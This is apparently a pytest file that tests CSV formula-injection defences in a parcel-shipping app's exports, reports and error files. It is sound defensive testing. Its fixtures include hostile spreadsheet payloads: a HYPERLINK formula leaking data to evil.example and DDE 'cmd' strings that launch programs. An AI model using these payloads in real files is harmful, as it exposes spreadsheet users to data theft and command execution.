"""No CSV we write hands a spreadsheet a formula (OWASP's CSV injection): text
cells starting with =, +, -, @, a tab or a return get a quote in front
(imports.csv_cells), numbers stay numbers, and the import of our own export
takes the quote off again, so an export still re-imports unchanged."""

import csv
import io

import pytest

from imports.csv_cells import neutralise, restore
from imports.errors_file import ErrorsFile
from offices.models import Office
from shipments.models import Package
from tests.factories import register_package
from tests.helpers import package_rows, write_package_rows

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "sender_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "receiver_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sender_line2": "-2+3",
    "receiver_line2": "+1 Main Street",
    "sender_city": "\t=1+1",  # a partner's own neutraliser: a tab before the formula
    "receiver_region": "'=neutralised by the partner",  # read as =neutralised by the partner
}


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _formulas(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run: starting with a formula character, and not a plain number."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_START) and neutralise(cell) != cell  # a plain number is left as it is
    ]


@pytest.fixture
def hostile_packages(run_command, network, tmp_path):
    rows = package_rows()[:2]
    rows[0] |= HOSTILE
    source = write_package_rows(tmp_path / "hostile.csv", rows)
    assert run_command("import_packages", str(source))[0] == 0
    return Package.objects.select_related("sender_address", "receiver_address").order_by("id")


def _stored(packages) -> list[tuple]:
    return [
        (
            package.tracking_number,
            package.sender_name,
            package.receiver_name,
            package.sender_phone,
            package.sender_address.line2,
            package.sender_address.city,
            package.receiver_address.line2,
            package.receiver_address.region,
        )
        for package in packages
    ]


def test_export_packages_csv_opens_in_a_spreadsheet_without_running_a_formula(run_command, hostile_packages, tmp_path):
    target = tmp_path / "out.csv"
    assert run_command("export_packages", str(target))[0] == 0
    rows = _cells(target.read_text(encoding="utf-8"))
    assert _formulas(rows) == []
    exported = dict(zip(rows[0], rows[1], strict=True))
    assert exported["sender_name"] == "'" + HOSTILE["sender_name"]
    assert exported["receiver_name"] == "'" + HOSTILE["receiver_name"]
    assert exported["sender_city"] == "'\t=1+1"
    assert exported["receiver_region"] == "'=neutralised by the partner"
    # Numbers stay numbers: a phone in E.164 and the money columns.
    assert exported["sender_phone"] == "+12125550142"
    assert exported["declared_value"] == "50.00"


def test_our_own_csv_export_reimports_unchanged_with_its_neutralised_cells(run_command, hostile_packages, tmp_path):
    before = _stored(hostile_packages)
    # Registration kept the partner's tab in front of the formula (it is what neutralises it);
    # the partner's quote in front of a formula is taken off as the file is read.
    assert (before[0][5], before[0][7]) == ("\t=1+1", "=neutralised by the partner")
    target = tmp_path / "backup.csv"
    assert run_command("export_packages", str(target))[0] == 0
    status, out, _ = run_command("import_packages", str(target))
    assert status == 0, out
    assert "created 0, updated 0, unchanged 2, rejected 0" in out
    assert _stored(Package.objects.select_related("sender_address", "receiver_address").order_by("id")) == before


def test_registration_through_the_api_keeps_the_tab_that_neutralises_a_formula(client_for, clerk_a, office_c, tariff):
    address = {"line1": "1 Elm St", "city": "Springfield", "country": "US"}
    payload = {
        "origin_office": "AAA01",
        "destination_office": "CCC01",
        "service": "standard",
        "weight_grams": 500,
        "length_cm": 10,
        "width_cm": 10,
        "height_cm": 10,
        "sender": {"name": "\t=1+1", "address": address | {"line2": "\t@SUM(1)"}},
        "receiver": {"name": "Rita Receiver", "address": address},
    }
    response = client_for(clerk_a).post("/api/v1/packages/", payload, format="json")
    assert response.status_code == 201, response.content
    package = Package.objects.get()
    assert (package.sender_name, package.sender_address.line2) == ("\t=1+1", "\t@SUM(1)")


def test_cost_report_csv_of_an_office_names_it_as_text_and_keeps_its_numbers(
    client_for, manager_a, office_a, office_c, tariff
):
    Office.objects.filter(pk=office_a.pk).update(name="=cmd|' /C calc'!A0")
    Office.objects.filter(pk=office_c.pk).update(name="@SUM(A1:A9)")
    package = register_package(origin=office_a, destination=office_c)
    response = client_for(manager_a).get("/api/v1/offices/AAA01/reports/costs/?group_by=destination&format=csv")
    rows = _cells(response.content.decode())
    assert _formulas(rows) == []
    assert rows[1][:5] == ["total", "AAA01", "'=cmd|' /C calc'!A0", "1", str(package.cost_total)]
    assert rows[2][:3] == ["destination", "CCC01", "'@SUM(A1:A9)"]


def test_cost_report_csv_of_the_whole_network_names_offices_as_text(client_for, hq, office_a, office_c, tariff):
    Office.objects.filter(pk=office_a.pk).update(name="-1+1")
    register_package(origin=office_a, destination=office_c)
    response = client_for(hq).get("/api/v1/reports/costs/?group_by=office&format=csv")
    rows = _cells(response.content.decode())
    assert _formulas(rows) == []
    assert rows[2][:3] == ["office", "AAA01", "'-1+1"]


def test_import_errors_file_writes_no_formula(tmp_path):
    errors = ErrorsFile(str(tmp_path / "errors.csv"))
    errors.write({7: {"sender_name": "=HYPERLINK(1)", "_line": "-1+2 fields"}})
    errors.close()
    rows = _cells((tmp_path / "errors.csv").read_text())
    assert rows[1:] == [["7", "sender_name", "'=HYPERLINK(1)"], ["7", "line", "'-1+2 fields"]]


@pytest.mark.parametrize(
    "value", ["=1+1", "+1", "-12.50", "+12125550142", "@x", "\tx", "\r=x", "'=x", "''@x", "'x", "John", "-Smith", ""]
)
def test_a_neutralised_cell_reads_back_as_it_was(value):
    assert restore(neutralise(value)) == value
